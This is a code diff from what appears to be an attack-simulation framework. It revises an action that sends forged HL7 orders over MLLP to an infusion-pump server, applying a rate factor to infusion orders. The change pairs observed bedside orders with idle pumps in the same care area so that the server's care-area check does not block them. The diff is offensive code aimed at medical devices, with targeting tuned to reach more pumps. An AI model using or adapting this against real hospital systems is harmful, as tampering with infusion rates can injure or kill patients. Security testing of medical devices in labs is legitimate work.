@@ -33,14 +33,14 @@ export const hl7Order: Action<typeof params> = {
     const reached = endpointFor(context, 'hl7');
     if (!reached.ok)
       return report('blocked', 'The pump server’s HL7 listener is out of reach.', [reached.evidence]);
-    const seen = context.lab.observe.orders()[0];
-    if (!seen)
+    const targets = candidateTargets(context.lab.observe.orders(), context.lab.observe.pumps());
+    if (targets.length === 0)
       return report('blocked', 'No order seen at a bedside.', [
         evidence('hl7', evidenceCodes.noTarget, 'no order seen'),
       ]);
     const items: ClientEvidence[] = [];
     const where = addressOf(reached.endpoint);
-    for (const serial of candidatePumps(seen, context.lab.observe.pumps())) {
+    for (const { seen, serial } of targets) {
       const message = orderMessage(seen, serial, rateFactor, context.lab.now());
       const answer = await exchangeMllp(reached.endpoint, context.attacker.address, message);
       if (!answer.ok) {
@@ -60,13 +60,27 @@ export const hl7Order: Action<typeof params> = {
   },
 };
 
-/** The seen order's pump when it is free, then the other free pumps; at most `maxAttempts`. */
-function candidatePumps(seen: OrderView, pumps: readonly PumpView[]): string[] {
+/**
+ * A patient seen at a bedside and a free pump in the same care area (the pump server refuses a pump
+ * of another care area, PIV 9021), orders in the order seen; else the first seen order's own pump.
+ * At most `maxAttempts`.
+ */
+function candidateTargets(
+  orders: readonly OrderView[],
+  pumps: readonly PumpView[],
+): { seen: OrderView; serial: string }[] {
+  const careAreaOf = new Map(pumps.map((pump) => [pump.serial, pump.careArea]));
   const free = bySerial(pumps).filter((pump) => isIdle(pump) && pump.connected);
-  const serials = [seen.serial, ...free.map((pump) => pump.serial)].filter(
-    (serial, index, all) => all.indexOf(serial) === index && free.some((pump) => pump.serial === serial),
+  const pairs = orders.flatMap((seen) =>
+    free
+      .filter((pump) => pump.careArea === careAreaOf.get(seen.serial))
+      .map((pump) => ({ seen, serial: pump.serial })),
   );
-  return (serials.length > 0 ? serials : [seen.serial]).slice(0, maxAttempts);
+  const [first] = orders;
+  return (pairs.length > 0 ? pairs : first ? [{ seen: first, serial: first.serial }] : []).slice(
+    0,
+    maxAttempts,
+  );
 }
 
 function orderMessage(seen: OrderView, serial: string, factor: number, now: number): string {
